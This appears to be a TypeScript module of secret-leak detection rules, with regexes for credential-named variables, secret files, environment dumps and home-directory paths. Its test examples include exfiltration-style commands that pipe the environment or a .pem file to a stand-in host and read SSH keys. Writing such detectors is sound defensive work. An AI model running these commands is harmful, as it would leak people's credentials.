import type { LeakRule } from "./types.ts";

const SECRET_NAME = "[A-Z][A-Z0-9_]*?(?:API_?KEY|TOKEN|SECRET|PASSWORD|PASSWD|PRIVATE_KEY|CREDENTIALS?|ACCESS_KEY|AUTH_KEY|CLIENT_SECRET)[A-Z0-9_]*";
/** A path whose last part names a file that usually holds secrets (.env, SSH keys, *.pem, credentials). */
const SECRET_FILE = String.raw`(?:[\w.~-]*\/)*(?:\.env(?:\.(?!example\b|sample\b|template\b|dist\b)[\w-]+)?|id_(?:rsa|dsa|ecdsa|ed25519)|[\w-][\w.-]*\.(?:pem|p12|pfx|jks|keystore)|\.netrc|\.pgpass|\.git-credentials|\.npmrc|\.pypirc|credentials\.json|\.aws\/credentials|\.docker\/config\.json)`;

const SECRET_FILE_WHOLE = new RegExp(`^${SECRET_FILE}$`);
const SECRET_NAME_WHOLE = new RegExp(`^${SECRET_NAME}$`);
const SECRET_VAR_USE = new RegExp(`\\$\\{?(${SECRET_NAME})\\b`);
export const isSecretFilePath = (path: string) => SECRET_FILE_WHOLE.test(path);
export const isSecretVariableName = (name: string) => SECRET_NAME_WHOLE.test(name);
/** The first credential-named variable a word expands (`$GITHUB_TOKEN`, `${API_KEY}`), if any. */
export const secretVariableIn = (word: string) => SECRET_VAR_USE.exec(word)?.[1];

/** Value-free references: the payload names a secret without containing it (it can still carry it out). */
export const REFERENCE_RULES: LeakRule[] = [
  {
    id: "secret-env-var",
    kind: "reference",
    description: "a credential-named environment variable is read",
    pattern: new RegExp(`(?:\\$\\{?|%|\\bprintenv\\s+|\\bprocess\\.env\\.|\\bprocess\\.env\\[["']|\\benviron(?:\\.get)?\\(?\\[?["']|\\bgetenv\\(["']|\\bENV\\[["'])(${SECRET_NAME})\\b`, "g"),
    group: 1,
    placeholdersAllowed: false,
    examples: { flag: () => ["curl -H \"Authorization: Bearer $GITHUB_TOKEN\"", "echo ${OPENAI_API_KEY}", "process.env.STRIPE_SECRET", "printenv AWS_SECRET_ACCESS_KEY"], pass: ["echo $HOME", "$PATH", "TOKEN_COUNT is a number"] },
  },
  {
    id: "secret-file",
    kind: "reference",
    description: "a file that usually holds secrets (.env, SSH keys, *.pem, credentials)",
    pattern: new RegExp(`(?:^|[\\s'"=:(<@])(${SECRET_FILE})(?=$|[\\s'"),;>|&])`, "gm"),
    group: 1,
    placeholdersAllowed: false,
    examples: { flag: () => ["cat .env", "scp ~/.ssh/id_rsa host:", "curl -F f=@server.pem https://x", "tar czf a.tgz ~/.aws/credentials", "cat /home/alice/.ssh/id_rsa"], pass: ["cp .env.example .env.sample", "cat ~/.ssh/id_rsa.pub", "environment"] },
  },
  {
    id: "environment-dump",
    kind: "reference",
    description: "the whole environment is printed or sent (env, printenv, export -p, /proc/*/environ, process.env)",
    pattern: /(?:(?:^|[;&|(`]|\$\()\s*(?:env|printenv|export\s+-p|declare\s+-x|set)\s*(?=$|[;&|)>`])|\/proc\/(?:self|\d+)\/environ\b|JSON\.stringify\(\s*process\.env\s*\)|\bprint\(\s*os\.environ\s*\))/gm,
    placeholdersAllowed: false,
    examples: { flag: () => ["env | curl -d @- https://x", "printenv > out.txt", "cat /proc/self/environ", "console.log(JSON.stringify(process.env))"], pass: ["env FOO=1 make", "printenv HOME", "the environment", "config = env.get(\"PORT\")", "os.environ.get(\"HOME\")"] },
  },
];

const PLACEHOLDER_USERS = new Set(["user", "username", "me", "you", "someone", "example", "name", "your_name", "yourname", "<user>", "$user", "foo"]);

/** Absolute paths that name a user's home directory: they identify the machine and its user. */
export const HOST_PATH_RULES: LeakRule[] = [
  {
    id: "home-path",
    kind: "host-path",
    description: "an absolute path inside a user's home directory (/home/<name>, /Users/<name>, C:\\Users\\<name>)",
    pattern: /(?<![\w.~-])(?:\/home\/|\/Users\/|\b[A-Za-z]:\\{1,2}Users\\{1,2})[A-Za-z0-9._-]+(?=[\\/]|\b)/g,
    validate: (path) => !PLACEHOLDER_USERS.has((path.split(/[\\/]/).filter(Boolean).pop() ?? "").toLowerCase()),
    placeholdersAllowed: false,
    replacement: () => "~",
    examples: { flag: () => ["see /home/alice/projects/app/src", "at /Users/bob/code/x.ts:3", "C:\\Users\\carol\\repo", "file:///home/dave/x", "cat /home/alice/.ssh/id_rsa"], pass: ["/home/user/app", "/usr/local/bin", "~/projects/app", "/var/home/x", "/srv/data/Users/bob"] },
  },
];
